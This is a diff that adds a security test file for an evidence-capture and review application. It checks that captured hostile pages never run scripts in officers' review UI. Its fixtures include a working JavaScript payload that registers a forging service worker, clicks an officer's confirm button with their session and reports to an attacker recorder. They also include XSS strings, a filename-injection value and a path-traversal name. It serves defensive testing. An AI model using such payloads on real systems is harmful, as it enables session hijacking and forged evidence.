@@ -1,0 +1,426 @@
+"""A crawled page's content never becomes active in the review UI.
+
+A hostile site is captured through the real pipeline, then an officer opens its evidence
+in real Chromium: nothing of it runs, registers a worker or acts with the officer's
+session. Evidence files are typed by kuzet from their bytes (``evidence.sniff``), never by
+the page, and the UI's own policy forbids inline script, workers, plugins and frames.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import re
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from PIL import Image
+from playwright.sync_api import Error as PlaywrightError
+from playwright.sync_api import sync_playwright
+from sqlalchemy import select
+
+from evidence.browser import CHROMIUM_ARGS
+from evidence.jobs import run_captures
+from evidence.manifest import Listed, build_manifest
+from evidence.recorder import Exchange
+from evidence.sniff import OCTET_STREAM, download_name, sniff
+from evidence.store import LocalArtifactStore
+from evidence.timestamp import request_timestamp
+from evidence.warc import build_wacz, build_warc
+from kuzet.models import Artifact, Capture, CaptureStatus, Detection, DetectionStatus
+from tests.factories import detection, officer, png_for
+from tests.test_browser_review import served
+from tests.test_timestamp import TsaServer, make_tsa
+from tests.webserver import WebServer
+
+PASSWORD = "correct horse battery"
+TEMPLATES = Path(__file__).resolve().parent.parent / "review" / "templates"
+
+
+def _image(fmt: str) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (16, 9), (200, 30, 30)).save(out, format=fmt)
+    return out.getvalue()
+
+
+# ---------------------------------------------------------------- sniffing real bytes
+
+
+def test_allowlisted_images_are_the_only_inline_types() -> None:
+    for fmt, media in (("PNG", "image/png"), ("JPEG", "image/jpeg"), ("WEBP", "image/webp")):
+        got = sniff(_image(fmt), "screenshot_full")
+        assert (got.media_type, got.inline) == (media, True), fmt
+    hostile = {
+        "html": b"<!doctype html><html><script>alert(1)</script></html>",
+        "html after blanks": b"\n\n   <script>alert(1)</script>",
+        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        "gif": _image("GIF"),
+        "bmp": _image("BMP"),
+        "script": b"navigator.serviceWorker.register('/x.js')",
+        "xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>',
+        "empty": b"",
+    }
+    for name, data in hostile.items():
+        for kind in ("response_body", "html_rendered", "screenshot_full", "warc", "manifest"):
+            got = sniff(data, kind)
+            assert (got.media_type, got.inline) == (OCTET_STREAM, False), (name, kind)
+
+
+def test_evidence_formats_are_downloads_recognised_by_bytes_and_kind(tmp_path) -> None:
+    page = Exchange(
+        url="http://127.0.0.1:9/",
+        status=200,
+        response_headers={"Content-Type": "image/x, text/html"},
+        body=b"<title>T</title><script>alert(1)</script>",
+    )
+    warc = build_warc([page], software="kuzet test", info={})
+    wacz = build_wacz(warc, url=page.url, at=page.at, title="T")
+    manifest = build_manifest(
+        capture_id=1,
+        url="http://127.0.0.1:9/",
+        artifacts=[Listed("warc", "application/warc", hashlib.sha256(warc).hexdigest(), 1)],
+        metadata={},
+        hits=[],
+    )
+    with TsaServer(make_tsa(tmp_path)) as tsa:
+        stamp = request_timestamp(manifest, tsa.url)
+    made = {
+        "pdf": (_image("PDF"), "application/pdf", ".pdf"),
+        "warc": (warc, "application/warc", ".warc.gz"),
+        "wacz": (wacz, "application/wacz+zip", ".wacz"),
+        "manifest": (manifest, "application/json", ".manifest.json"),
+        "timestamp": (stamp, "application/timestamp-reply", ".tsr"),
+    }
+    sha = "ab" * 32
+    for kind, (data, media, suffix) in made.items():
+        got = sniff(data, kind)
+        assert (got.media_type, got.inline) == (media, False), kind
+        assert download_name(sha, kind, got) == sha + suffix
+    # A page's body that is a zip, gzip, JSON or DER is still only bytes to kuzet.
+    for kind, (data, _, _) in made.items():
+        if kind != "pdf":
+            assert sniff(data, "response_body").media_type == OCTET_STREAM, kind
+    # Containers claimed for a kind their bytes do not have are bytes too.
+    assert sniff(b"PK\x03\x04 not a wacz", "warc").media_type == OCTET_STREAM
+    assert sniff(b"\x1f\x8b\x08 not gzip", "warc").media_type == OCTET_STREAM
+    assert sniff(b"[1, 2]", "manifest").media_type == OCTET_STREAM
+    assert sniff(stamp + b"<script>", "timestamp").media_type == OCTET_STREAM
+
+
+def test_download_names_are_kuzets_own() -> None:
+    sha = hashlib.sha256(b"x").hexdigest()
+    html = sniff("<p>Қазақ тілі</p>".encode(), "response_body")
+    assert download_name(sha, "response_body", html) == f"{sha}.response_body.txt"
+    binary = sniff(b"\x00\x01\x02", "response_body")
+    assert download_name(sha, "response_body", binary) == f"{sha}.response_body.bin"
+    assert download_name(sha, 'x"; filename="evil.html', html) == f"{sha}.txt"
+    with pytest.raises(ValueError):
+        download_name('../evil.html"', "response_body", html)
+
+
+def test_templates_carry_no_inline_script_handler_or_style() -> None:
+    for template in TEMPLATES.glob("*.html"):
+        text = template.read_text(encoding="utf-8")
+        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), template.name
+        assert not re.search(r"\son[a-z]+\s*=", text, re.IGNORECASE), template.name
+        assert not re.search(r"\sstyle\s*=", text, re.IGNORECASE), template.name
+        assert "|safe" not in text.replace(" ", "") and "javascript:" not in text, template.name
+
+
+# ---------------------------------------------------------------- a hostile site, captured
+
+# Served as a script from the review UI's own origin (an evidence file), it would register
+# itself as a service worker over /evidence/ (forging every file shown afterwards), open
+# the detection in a window of the same origin and press its confirm button with the
+# officer's session, then report to the attacker's recorder. Only where it lands in the UI.
+PAYLOAD = """(function () {
+  var REC = %(rec)s, DET = %(det)d;
+  if (typeof window === "undefined") {
+    self.addEventListener("fetch", function (e) {
+      e.respondWith(new Response("<h1>forged</h1>", {headers: {"Content-Type": "text/html"}}));
+    });
+    return;
+  }
+  if (location.pathname.indexOf("/evidence/") !== 0) return;
+  var me = document.currentScript.src, notes = ["ran=1"];
+  var sw = navigator.serviceWorker.register(me).then(
+    function () { notes.push("sw=registered"); }, function () { notes.push("sw=refused"); });
+  var w = window.open("/detections/" + DET, "_blank"), tries = 0;
+  var confirmed = new Promise(function (resolve) {
+    var timer = setInterval(function () {
+      var button = null;
+      try { button = w.document.getElementById("confirm"); } catch (e) {}
+      if (button || ++tries > 100) {
+        clearInterval(timer);
+        if (button) { button.click(); notes.push("confirm=clicked"); }
+        resolve();
+      }
+    }, 100);
+  });
+  Promise.all([sw, confirmed]).then(function () {
+    setTimeout(function () { location.href = REC + "/ran?" + notes.join("&"); }, 1000);
+  });
+})();
+"""
+# The page an officer is asked to look at: declared an image, rendered as HTML by any
+# browser that believes the header; it loads the payload from the UI's own evidence URL.
+EVIL = """<!doctype html><html><head><meta charset="utf-8"><title>Казино</title></head>
+<body><p id="planted">Лучшее онлайн-казино, бонус 200%%!</p>
+<script src="/evidence/%(payload_sha)s"></script>
+<img src="%(rec)s/img-beacon"></body></html>
+"""
+EVIL_TYPE = "image/x, text/html"
+PAYLOAD_TYPE = "image/x, text/javascript"
+
+
+class Recorder(WebServer):
+    """The attacker's endpoint: every request that reaches it is a script that ran."""
+
+    def __init__(self) -> None:
+        self.reached = threading.Event()
+        super().__init__(lambda path, headers: (204, {}, b""))
+
+    def reply(self, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
+        self.reached.set()
+        return super().reply(path, headers)
+
+
+class HostileSite(WebServer):
+    """Answers ``/casino`` and ``/payload.js`` with crafted types, once told the UI's ids."""
+
+    def __init__(self, recorder: Recorder) -> None:
+        self.state: dict[str, Any] = {"rec": recorder.url, "det": 0}
+        super().__init__(self._route)
+
+    def payload(self) -> bytes:
+        return (PAYLOAD % {"rec": repr(self.state["rec"]), "det": self.state["det"]}).encode()
+
+    def evil(self) -> bytes:
+        sha = hashlib.sha256(self.payload()).hexdigest()
+        return (EVIL % {"payload_sha": sha, "rec": self.state["rec"]}).encode()
+
+    def _route(self, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
+        if path == "/casino":
+            return 200, {"Content-Type": EVIL_TYPE}, self.evil()
+        if path == "/payload.js":
+            return 200, {"Content-Type": PAYLOAD_TYPE}, self.payload()
+        return 404, {}, b"not found"
+
+
+@pytest.fixture
+def hostile() -> Iterator[tuple[HostileSite, Recorder]]:
+    with Recorder() as recorder, HostileSite(recorder) as site:
+        yield site, recorder
+
+
+def _queue_flagged(db, site: HostileSite) -> tuple[int, list[int]]:
+    """Both hostile pages flagged and queued for capture, their source allowed to be on
+    loopback, as a crawl and its analysis would leave them. (detection id, capture ids)"""
+    with db.session() as s:
+        officer(s)
+        dets = [detection(s, None, site.url + path) for path in ("/casino", "/payload.js")]
+        for det in dets:
+            det.page.source.start_url, det.page.source.allow_private = site.url + "/", True
+            cap = det.capture
+            cap.status, cap.started_at, cap.finished_at = CaptureStatus.QUEUED, None, None
+        site.state["det"] = dets[0].id
+        return dets[0].id, [d.capture_id for d in dets]
+
+
+def _login(page, base: str, target: str) -> None:
+    page.goto(f"{base}{target}")
+    page.fill("input[name=username]", "officer1")
+    page.fill("input[name=password]", PASSWORD)
+    page.click("button[type=submit]")
+    page.wait_for_url(f"{base}{target}")
+
+
+def _open_as_officer(page, url: str, recorder: Recorder) -> str | None:
+    """Open an evidence URL the way an officer's click does; the name of the file it
+    downloads, or None when it was shown as a page (then its script is given the time to
+    do what it came for)."""
+    try:
+        with page.expect_download(timeout=10_000) as info:
+            try:
+                page.goto(url)
+            except PlaywrightError as exc:  # "Download is starting": a file, not a page
+                assert "download" in str(exc).lower(), exc
+        return info.value.suggested_filename
+    except PlaywrightError:
+        recorder.reached.wait(20)
+        return None
+
+
+def test_hostile_page_captured_then_opened_by_an_officer_runs_nothing(
+    settings, db, chromium, hostile
+) -> None:
+    site, recorder = hostile
+    det_id, cap_ids = _queue_flagged(db, site)
+    assert run_captures(settings, db, cap_ids).succeeded == 2
+    assert recorder.page_hits() == {"/img-beacon": 1}  # the capture browser loaded it all
+    recorder.hits.clear()
+    recorder.reached.clear()
+    bodies: dict[str, str] = {}
+    with db.session() as s:
+        for cap in s.scalars(select(Capture).where(Capture.id.in_(cap_ids))):
+            body = cap.artifact("response_body")
+            # Stored with kuzet's type; the page's declared one is only data.
+            assert body.media_type == OCTET_STREAM
+            declared = {k.lower(): v for k, v in cap.meta["response_headers"].items()}
+            assert declared["content-type"] in (EVIL_TYPE, PAYLOAD_TYPE)
+            bodies[cap.url.rsplit("/", 1)[1]] = body.sha256
+    store = LocalArtifactStore(settings.evidence_dir)
+    assert store.open_bytes(bodies["casino"]) == site.evil()
+    assert store.open_bytes(bodies["payload.js"]) == site.payload()
+    with served(settings, db) as base, sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
+        context = browser.new_context(accept_downloads=True)
+        page = context.new_page()
+        _login(page, base, f"/detections/{det_id}")
+        widths = page.locator(".shot img").evaluate_all("all => all.map(i => i.naturalWidth)")
+        assert len(widths) == 3 and min(widths) > 0  # full page, highlighted, crop: shown
+        assert page.locator("#planted").count() == 0  # the page's markup is never ours
+        shot = page.locator(".shot.full img").get_attribute("src")
+        names = [
+            _open_as_officer(page, f"{base}/evidence/{sha}", recorder) for sha in bodies.values()
+        ]
+        page.goto(f"{base}/detections/{det_id}")
+        workers = page.evaluate("navigator.serviceWorker.getRegistrations().then(r => r.length)")
+        replies = {
+            key: context.request.get(f"{base}/evidence/{sha}") for key, sha in bodies.items()
+        }
+        image = context.request.get(f"{base}{shot}")
+        browser.close()
+    assert recorder.page_hits() == {}, "the hostile page's script ran in the review UI"
+    assert workers == 0
+    with db.session() as s:
+        assert s.get(Detection, det_id).status == DetectionStatus.PENDING
+    assert names == [f"{sha}.response_body.txt" for sha in bodies.values()]
+    for reply in replies.values():
+        headers = reply.headers
+        assert headers["content-type"] == OCTET_STREAM
+        assert headers["content-disposition"].startswith("attachment;")
+        assert headers["x-content-type-options"] == "nosniff"
+        csp = [d.strip() for d in headers["content-security-policy"].split(";")]
+        assert "sandbox" in csp and "default-src 'none'" in csp
+    assert image.headers["content-type"] == "image/png"
+    assert image.headers["x-content-type-options"] == "nosniff"
+    assert "sandbox" in image.headers["content-security-policy"]
+
+
+def _old_rows(s, store: LocalArtifactStore, url: str, rec: str) -> tuple[int, dict[str, str]]:
+    """A detection whose artifact rows still hold the types an older kuzet took from the
+    page, over hostile bytes. (detection id, sha256 by kind)"""
+    det = detection(s, store, url)
+    beacon = f"<script>location.href = {rec!r} + '/ran'</script>".encode()
+    files = {
+        "response_body": (EVIL_TYPE, b"<!doctype html><p id=planted>x</p>" + beacon),
+        "html_rendered": ("text/html; charset=utf-8", b"<html><body>" + beacon),
+        "screenshot_viewport": (
+            "image/svg+xml",
+            b'<svg xmlns="http://www.w3.org/2000/svg">' + beacon + b"</svg>",
+        ),
+    }
+    shas = {"screenshot_full": det.capture.artifact("screenshot_full").sha256}
+    for kind, (media, data) in files.items():
+        st = store.put(data)
+        det.capture.artifacts.append(
+            Artifact(kind=kind, media_type=media, sha256=st.sha256, size=st.size)
+        )
+        shas[kind] = st.sha256
+    return det.id, shas
+
+
+def test_rows_stored_by_an_older_kuzet_are_typed_again_when_served(
+    settings, db, chromium, hostile
+) -> None:
+    _, recorder = hostile
+    store = LocalArtifactStore(settings.evidence_dir)
+    with db.session() as s:
+        officer(s)
+        det_id, shas = _old_rows(s, store, "http://127.0.0.1:9/old", recorder.url)
+    with served(settings, db) as base, sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
+        context = browser.new_context(accept_downloads=True)
+        page = context.new_page()
+        _login(page, base, f"/detections/{det_id}")
+        hostile_kinds = ("response_body", "html_rendered", "screenshot_viewport")
+        names = {
+            k: _open_as_officer(page, f"{base}/evidence/{shas[k]}", recorder) for k in hostile_kinds
+        }
+        # A real screenshot still opens as an image of its own, under the sandbox policy.
+        shown = page.goto(f"{base}/evidence/{shas['screenshot_full']}")
+        width = page.locator("img").evaluate("img => img.naturalWidth")
+        replies = {k: context.request.get(f"{base}/evidence/{shas[k]}") for k in hostile_kinds}
+        browser.close()
+    assert recorder.page_hits() == {}
+    assert names == {
+        "response_body": f"{shas['response_body']}.response_body.txt",
+        "html_rendered": f"{shas['html_rendered']}.html_rendered.txt",
+        "screenshot_viewport": f"{shas['screenshot_viewport']}.screenshot_viewport.txt",
+    }
+    for reply in replies.values():
+        assert reply.headers["content-type"] == OCTET_STREAM
+        assert reply.headers["content-disposition"].startswith("attachment;")
+        assert reply.headers["x-content-type-options"] == "nosniff"
+    assert shown.headers["content-type"] == "image/png" and width == 40
+    assert shown.headers["content-disposition"].startswith("inline;")
+    assert "sandbox" in shown.headers["content-security-policy"]
+    assert store.open_bytes(shas["screenshot_full"]) == png_for("http://127.0.0.1:9/old")
+
+
+# Run in a UI page: what a script that got in would try; each must be refused by policy.
+REFUSED = ("worker-src", "script-src-elem", "frame-src", "object-src")
+_TRY_IN_UI = """async (expected) => {
+  const violations = new Set();
+  let allSeen;
+  const seen = new Promise(r => { allSeen = r; });
+  document.addEventListener("securitypolicyviolation", e => {
+    violations.add(e.effectiveDirective);
+    if (expected.every(d => violations.has(d))) allSeen();
+  });
+  let worker;
+  try { await navigator.serviceWorker.register("/static/keys.js"); worker = "registered"; }
+  catch (e) { worker = "refused"; }
+  const s = document.createElement("script");
+  s.textContent = "document.body.dataset.inline = 'ran'";
+  document.body.append(s);
+  const f = document.createElement("iframe");
+  f.src = "/static/style.css";
+  document.body.append(f);
+  const o = document.createElement("object");
+  o.data = "/static/style.css";
+  document.body.append(o);
+  await Promise.race([seen, new Promise(r => setTimeout(r, 5000))]);
+  return {worker, inline: document.body.dataset.inline || null, violations: [...violations]};
+}"""
+
+
+def test_ui_policy_refuses_workers_frames_plugins_and_inline_script(settings, db, chromium) -> None:
+    with db.session() as s:
+        officer(s)
+    with served(settings, db) as base, sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
+        page = browser.new_page()
+        _login(page, base, "/")
+        csp = page.goto(f"{base}/").headers["content-security-policy"]
+        tried = page.evaluate(_TRY_IN_UI, list(REFUSED))
+        browser.close()
+    assert tried["worker"] == "refused" and tried["inline"] is None
+    assert set(REFUSED) <= set(tried["violations"]), tried
+    directives = {d.strip() for d in csp.split(";")}
+    for wanted in (
+        "default-src 'none'",
+        "script-src 'self'",
+        "worker-src 'none'",
+        "object-src 'none'",
+        "frame-src 'none'",
+        "base-uri 'none'",
+        "form-action 'self'",
+        "frame-ancestors 'none'",
+    ):
+        assert wanted in directives, wanted
+    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
